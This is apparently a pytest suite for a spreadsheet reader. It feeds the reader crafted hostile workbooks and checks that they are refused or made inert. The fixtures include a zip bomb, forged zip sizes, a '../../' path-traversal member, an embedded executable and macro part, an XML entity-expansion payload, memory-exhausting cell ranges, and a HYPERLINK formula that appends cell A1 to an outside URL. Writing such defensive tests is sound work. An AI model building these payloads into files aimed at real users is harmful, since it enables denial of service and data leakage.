"""Spreadsheets are strangers' files too: each is read or said to be none, and nothing in it runs."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from spanbook.reading.sheets import NotASheet, read_sheet
from spanbook.reading.sheets import read as reader
from spanbook.reading.sheets.unpacked import unpacked
from tests.support import sheets


def refused(file: Path) -> str:
    with pytest.raises(NotASheet) as why:
        read_sheet(file)
    return str(why.value)


def repacked(file: Path, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> Path:
    """A sound workbook with its parts changed, and others put in."""
    sheets.xlsx(file, [["No.", "Name"], ["0012", "Knob"]])
    with zipfile.ZipFile(file) as packed:
        parts = {name: change(name, packed.read(name)) for name in packed.namelist()}
    return sheets.zipped(file, {**parts, **(more or {})})


def test_a_bomb_is_seen_before_it_goes_off(tmp_path: Path) -> None:
    zeros = b"<x>" + bytes(100_000_000)
    file = repacked(tmp_path / "a.xlsx", lambda name, data: zeros if "sheet1" in name else data)
    assert file.stat().st_size < 1_000_000
    assert "over 64 MB unpacked" in refused(file)


def test_a_size_that_is_a_lie_gives_no_more_than_it_says(tmp_path: Path) -> None:
    file = repacked(
        tmp_path / "a.xlsx", lambda name, data: data + b" " * 1_000_000 if "sheet1" in name else data
    )
    data = bytearray(file.read_bytes())
    for magic, at in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        start = data.find(b"xl/worksheets/sheet1.xml")
        while start > 0:
            head = data.rfind(magic, 0, start)
            if head >= 0 and start - head == (46 if magic == b"PK\1\2" else 30):
                struct.pack_into("<I", data, head + at, 100)
            start = data.find(b"xl/worksheets/sheet1.xml", start + 1)
    file.write_bytes(data)
    assert "it is no sound workbook" in refused(file)


@pytest.mark.parametrize(
    "part",
    ["xl/vbaProject.bin", "xl/embeddings/evil.exe", "xl/externalLinks/link1.xml", "../../x.xml"],
)
def test_nothing_but_the_parts_of_cells_is_taken_out(part: str, tmp_path: Path) -> None:
    file = repacked(tmp_path / "a.xlsm", lambda _, data: data, {part: b"MZ"})
    sort, clean, macros = unpacked(file.read_bytes())
    assert (sort, macros) == ("xlsx", part.endswith("vbaProject.bin"))
    assert part not in zipfile.ZipFile(io.BytesIO(clean)).namelist()
    assert read_sheet(file).rows[2][1].text == "0012"
    assert read_sheet(file).macros is macros


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be"])
def test_a_part_that_names_itself_large_is_refused(encoding: str, tmp_path: Path) -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'.encode(encoding)
    file = repacked(tmp_path / "a.xlsx", lambda name, data: laughs if "sheet1" in name else data)
    assert "has a document type, which no workbook needs" in refused(file)


def test_a_formula_is_text_and_nothing_works_it_out(tmp_path: Path) -> None:
    said = '=HYPERLINK("https://example.org/?"&A1)'
    assert read_sheet(sheets.xlsx(tmp_path / "a.xlsx", [[said]])).rows[1][1].text == said
    assert read_sheet(sheets.csv(tmp_path / "a.csv", [["=1+1"]])).rows[1][1].text == "=1+1"


def test_a_cell_far_off_takes_no_room(tmp_path: Path) -> None:
    far = sheets.xlsx(tmp_path / "a.xlsx", [["x"]])
    file = repacked(
        far, lambda name, data: data.replace(b'r="B2"', b'r="XFD1048576"') if "sheet1" in name else data
    )
    assert "more than 1000 columns" in refused(file)
    wide = tmp_path / "a.csv"
    wide.write_text("," * 2_000 + "x\n")
    assert "more than 1000 columns" in refused(wide)


def test_too_many_rows_are_told(tmp_path: Path) -> None:
    file = tmp_path / "a.csv"
    file.write_text("x\n" * 100_001)
    assert "more than 100000 rows; split it" in refused(file)


def test_repeated_cells_of_an_ods_take_no_more_memory_than_is_given(tmp_path: Path) -> None:
    many = (
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row>"
    )
    file = sheets.ods(tmp_path / "a.ods", [])
    with zipfile.ZipFile(file) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    parts["content.xml"] = parts["content.xml"].replace(b"</table:table>", many.encode() + b"</table:table>")
    told = refused(sheets.zipped(file, parts))
    assert "more memory or time than is given to it" in told or "cannot be read" in told or "columns" in told


def test_a_reading_that_does_not_end_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "PATIENCE", 0.0)
    assert "takes over 0 seconds" in refused(sheets.xlsx(tmp_path / "a.xlsx", [["x"]]))


def test_what_is_not_installed_is_said_with_the_way_to_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    child = tmp_path / "child.py"
    child.write_text('print(\'{"missing": "openpyxl"}\')\n')
    monkeypatch.setattr(reader, "_CHILD", child)
    assert "openpyxl is not installed" in refused(sheets.xlsx(tmp_path / "a.xlsx", [["x"]]))
